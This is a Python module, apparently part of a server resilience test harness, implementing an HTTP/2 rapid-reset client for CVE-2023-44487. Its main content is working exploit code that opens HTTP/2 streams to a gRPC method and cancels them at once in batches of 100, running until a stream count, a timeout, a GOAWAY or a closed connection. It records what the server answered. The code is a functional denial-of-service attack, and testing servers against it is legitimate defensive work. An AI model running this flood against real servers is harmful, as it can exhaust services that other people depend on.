"""A rapid-reset client (CVE-2023-44487): one HTTP/2 connection that opens streams and resets
each at once, so that no stream ever counts against the server's MAX_CONCURRENT_STREAMS on the
wire while the server may still be working on every one of them.

Plain ``h2`` over a blocking socket (grpcio cannot be made to misbehave like this): the client
preface, the server's SETTINGS read and acknowledged (a grpc server refuses streams beyond a
few before its SETTINGS are acknowledged), then batches of HEADERS + RST_STREAM(CANCEL) for a
gRPC method until ``streams`` were sent, ``timeout`` passed, the server sent GOAWAY or closed
the connection. Whatever the server sends meanwhile is read between batches (PINGs are answered
by ``h2`` itself). The server's answers to the streams (RST_STREAM REFUSED_STREAM, or nothing)
are not visible: each stream is already closed on this side when they arrive, and ``h2`` drops
them; what a flood cost the server is measured on the server.

Concurrency: synchronous, on the calling thread; every socket operation has a timeout.
"""

from __future__ import annotations

import select
import socket
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events

BATCH = 100
"""Streams opened and reset per write: enough to keep the server's read loop busy."""
IO_TIMEOUT = 5.0
"""Seconds one blocking socket operation may take (a server that stops reading ends the run)."""
READ_SIZE = 65536


@dataclass(frozen=True, slots=True)
class Flood:
    """What one rapid-reset run did and what the server answered."""

    sent: int
    """Streams opened and reset."""
    goaway: str | None
    """The error-code name of the server's GOAWAY, if it sent one."""
    closed: bool
    """Whether the server closed (or stopped reading from) the connection."""
    seconds: float


def _headers(authority: str, path: str) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", authority), ("content-type", "application/grpc"), ("te", "trailers")]


class _Connection:
    def __init__(self, host: str, port: int) -> None:
        self.socket = socket.create_connection((host, port), timeout=IO_TIMEOUT)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.goaway: str | None = None
        self.closed = False
        self.settings_received = False

    def flush(self) -> None:
        data = self.h2.data_to_send()
        if data:
            self.socket.sendall(data)

    def receive(self, wait: float) -> None:
        """Read what the server sent, waiting at most ``wait`` seconds for the first bytes."""
        readable, _, _ = select.select([self.socket], [], [], wait)
        while readable and not self.closed:
            data = self.socket.recv(READ_SIZE)
            if not data:
                self.closed = True
                break
            for event in self.h2.receive_data(data):
                self._note(event)
            readable, _, _ = select.select([self.socket], [], [], 0)
        self.flush()

    def _note(self, event: h2.events.Event) -> None:
        if isinstance(event, h2.events.RemoteSettingsChanged):
            self.settings_received = True
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway = _code_name(event.error_code)


def _code_name(code: int | h2.errors.ErrorCodes | None) -> str:
    if code is None:
        return "NONE"
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


def flood(host: str, port: int, *, path: str, streams: int, timeout: float) -> Flood:
    """Open and reset up to ``streams`` streams calling ``path`` on one connection, for at most
    ``timeout`` seconds."""
    started = time.monotonic()
    deadline = started + timeout
    connection = _Connection(host, port)
    headers = _headers(f"{host}:{port}", path)
    sent = 0
    try:
        connection.h2.initiate_connection()
        connection.flush()
        while not connection.settings_received and time.monotonic() < deadline:
            connection.receive(min(IO_TIMEOUT, max(deadline - time.monotonic(), 0)))
            if connection.closed:
                break
        while (sent < streams and time.monotonic() < deadline and connection.goaway is None
               and not connection.closed):
            for _ in range(min(BATCH, streams - sent)):
                stream_id = connection.h2.get_next_available_stream_id()
                connection.h2.send_headers(stream_id, headers)
                connection.h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                sent += 1
            connection.flush()
            connection.receive(0)
    except (TimeoutError, ConnectionError):
        connection.closed = True
    finally:
        connection.socket.close()
    return Flood(sent=sent, goaway=connection.goaway,
                 closed=connection.closed, seconds=time.monotonic() - started)
